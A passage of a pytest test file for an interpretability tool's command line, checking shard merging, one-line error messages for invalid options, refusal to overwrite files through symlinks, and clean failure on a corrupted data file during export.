        assert main(argv) == 0
        assert f"3 stages × 1 sequences (shard {index}/2 of 2 sequences" in capsys.readouterr().out
    assert main(["merge", str(tmp_path / "s2"), str(tmp_path / "s1"), "--out", str(tmp_path / "merged")]) == 0
    assert "2 shards merged, 3 stages × 2 sequences (30 files linked, 0 copied, 0 already there)" in capsys.readouterr().out
    assert main(["report", str(tmp_path / "merged"), "--format", "csv"]) == 0
    merged = capsys.readouterr().out
    assert main(["report", str(tiny_run[0]), "--format", "csv"]) == 0
    assert merged == capsys.readouterr().out
    assert main(["merge", str(tmp_path / "s1"), "--out", str(tmp_path / "m2")]) == 2
    assert capsys.readouterr().err == "error: merge: shard(s) 2 of 2 missing; give all 2 shard folders\n"


def test_cli_scaling_options_refuse_bad_input_in_one_line(tmp_path, tiny_lineage, capsys):
    import socket

    from interp.extraction.executors import available_cpus
    from tests.conftest import TINY_SEQUENCES

    lineage, concepts = write_inputs(tmp_path, tiny_lineage, TINY_SEQUENCES)
    base = ["extract", "--lineage", lineage, "--concepts", concepts, "--out", str(tmp_path / "r"), "--device", "cpu"]
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    cases = [
        (["--shard", "3/2"], "error: --shard 3/2: I must lie between 1 and N (1/2 … 2/2)\n"),
        (["--shard", "half"], "error: --shard 'half': expected I/N, two whole numbers with 1 ≤ I ≤ N (e.g. 3/8)\n"),
        (["--shard", "3/3"], "error: --shard 3/3: 2 sequence(s) make at most 2 shards, each with one sequence or more\n"),
        (["--shard", "1/1000000000000000000000000000000"],
         "error: --shard '1/1000000000000000000000000000000': N is at most 10,000 shards\n"),
        (["--shard", "1/" + "7" * 5000], "error: --shard '1/777777777777777777'… (5,002 characters): N is at most "
                                         "10,000 shards\n"),
        (["--threads", "10000"], f"error: --threads 10000: this process may use {available_cpus()} CPU(s) here; give at "
                                 f"most {available_cpus()}\n"),
        (["--address", "10.0.0.5:6379"], "error: --address 10.0.0.5:6379: applies to --executor ray, not local\n"),
        (["--executor", "ray", "--address", f"127.0.0.1:{port}"],
         f"error: --address 127.0.0.1:{port}: no Ray cluster answers there (Connection refused)\n"),
        (["--threads", "0"], "error: --threads 0: give at least one thread\n"),
    ]
    for extra, expected in cases:
        assert main([*base, *extra]) == 2, extra
        assert capsys.readouterr().err == expected
    assert not (tmp_path / "r").exists() or not list((tmp_path / "r").rglob("*.json"))
    (tmp_path / "file").write_text("precious")
    assert main([*base[:-4], "--out", str(tmp_path / "file"), "--device", "cpu"]) == 2
    assert capsys.readouterr().err == f"error: --out {tmp_path / 'file'}: is a file, not a folder; name a new or existing folder\n"
    (tmp_path / "precious").write_text("precious\n")
    (tmp_path / "linked").mkdir()
    (tmp_path / "linked" / ".lock").symlink_to(tmp_path / "precious")
    assert main([*base[:-4], "--out", str(tmp_path / "linked"), "--device", "cpu"]) == 2
    assert capsys.readouterr().err.startswith(f"error: {tmp_path / 'linked' / '.lock'}: a symbolic link, not a lock file")
    assert (tmp_path / "precious").read_text() == "precious\n" and (tmp_path / "file").read_text() == "precious"
    with pytest.raises(SystemExit):
        main([*base, "--executor", "slurm"])
    assert "invalid choice: 'slurm' (choose from 'local', 'ray')" in capsys.readouterr().err


def test_concepts_generate_checks_its_output_first(tmp_path, capsys):
    (tmp_path / "folder.jsonl").mkdir()
    code, _, err = run(capsys, "concepts", "generate", "--out", str(tmp_path / "folder.jsonl"))
    assert code == 2 and err == f"error: --out {tmp_path / 'folder.jsonl'}: is a folder; name a file (in it, or elsewhere)\n"
    code, _, err = run(capsys, "concepts", "generate", "--out", str(tmp_path / ("c" * 250 + ".jsonl")))
    assert code == 2 and err.endswith("the name is 256 bytes long; at most 241 here (its temporary name needs 14 more)\n")
    assert [p.name for p in tmp_path.iterdir()] == ["folder.jsonl"]


@pytest.mark.slow
def test_an_export_that_fails_while_figures_render_prints_one_line(tiny_run, tmp_path):
    """Every render still in flight is cancelled and awaited, and the browser closed, before the
    error line: no "Task exception was never retrieved" or traceback after it. Each render's
    command is slowed down in the browser's pipe, so that renders are in flight when the export
    meets the damaged array (with Chromium; without it there are no renders to stop)."""
    import os
    import shutil
    import subprocess
    import sys
    from pathlib import Path

    copy = shutil.copytree(tiny_run[0], tmp_path / "copy")
    damaged = copy / "entries" / "ift" / "seller-1.patterns.npy"
    data = bytearray(damaged.read_bytes())
    data[-1] ^= 0xFF
    damaged.write_bytes(bytes(data))
    script = (
        "import sys, time\n"
        "from choreographer.channels import pipe\n"
        "write = pipe.Pipe.write_json\n"
        "def slow(self, obj):\n"
        "    if 'interpRender' in str(obj.get('params', {}).get('expression', '')):\n"
        "        time.sleep(0.5)\n"
        "    return write(self, obj)\n"
        "pipe.Pipe.write_json = slow\n"
        "from interp.cli.main import main\n"
        "sys.exit(main(sys.argv[1:]))\n"
    )
    root = Path(__file__).resolve().parents[2]
    env = {**os.environ, "TQDM_DISABLE": "1", "PYTHONPATH": str(root)}
    done = subprocess.run([sys.executable, "-c", script, "export", str(copy), "--out", str(tmp_path / "b.zip"),
                           "--controls", "0"], capture_output=True, text=True, env=env, timeout=300)
    assert done.returncode == 2 and done.stdout == ""
    assert done.stderr == (f"error: {damaged}: changed or damaged since it was written (stage 'ift', sequence "
                           "'seller-1'); run `extract` again\n")
    assert not (tmp_path / "b.zip").exists()
